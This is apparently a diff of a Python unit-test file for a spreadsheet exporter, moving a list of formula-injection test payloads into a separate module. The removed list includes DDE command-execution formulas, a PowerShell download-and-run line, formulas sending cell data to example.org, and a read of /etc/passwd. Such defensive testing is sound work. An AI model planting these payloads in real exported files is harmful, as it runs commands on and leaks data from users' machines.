@@ -10,6 +10,7 @@ import openpyxl
 import pandas as pd
 import pytest
 from finance_by_hand import CONTRACTS, FACTS, given, tables
+from payloads import PAYLOADS
 
 from sufficiency.harmless import uncelled, visible
 from sufficiency.reports.finance.files import finance_files
@@ -20,53 +21,6 @@ from sufficiency.tables.files import frame_text, table_text
 
 pytestmark = pytest.mark.unit
 
-PAYLOADS = [
-    "=1+1",
-    "=SUM(A1:A9)",
-    "+1+1",
-    "+cmd|'/C calc'!A0",
-    "-1+1",
-    "-2+3+cmd|'/C calc'!A0",
-    "@SUM(1+1)",
-    "@Home",
-    "\t=1+1",
-    "\r=1+1",
-    "\n=1+1",
-    "\r\n=1+1",
-    " =1+1",
-    "\u00a0=1+1",
-    "\u200b=1+1",
-    "\ufeff=1+1",
-    "\uff1d1+1",
-    "\uff0b1+1",
-    "\uff0d1+1",
-    "\uff20SUM(1)",
-    "=cmd|'/C calc'!A0",
-    "=cmd|'/C powershell IEX(wget example.org/x)'!A0",
-    "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
-    '=DDE("cmd";"/C calc";"x")',
-    '=DDEAUTO("cmd","/C calc","x")',
-    '=HYPERLINK("http://example.org/?x="&A1,"click")',
-    "=HYPERLINK(CONCATENATE('http://example.org/',A1))",
-    '=WEBSERVICE("http://example.org/"&A1)',
-    '=IMPORTXML("http://example.org","//a")',
-    "=INDIRECT(\"'file:///etc/passwd'#$passwd.A1\")",
-    "'=1+1",
-    '"=1+1"',
-    '"=1+1',
-    "\u201c=1+1\u201d",
-    '","=1+1',
-    '";=1+1',
-    "Oak;=1+1",
-    "Oak|=1+1",
-    "Oak\t=1+1",
-    "Oak\n=1+1",
-    '=1+1";=1+1',
-    "{=1+1}",
-    "http://example.org/",
-    "internal:'Cover'!A1",
-    "mailto:somebody@example.org",
-]
 SIGNS = tuple("=+-@\uff1d\uff0b\uff0d\uff20")
 CUTS = [",", ";", "\t", "|"]
 
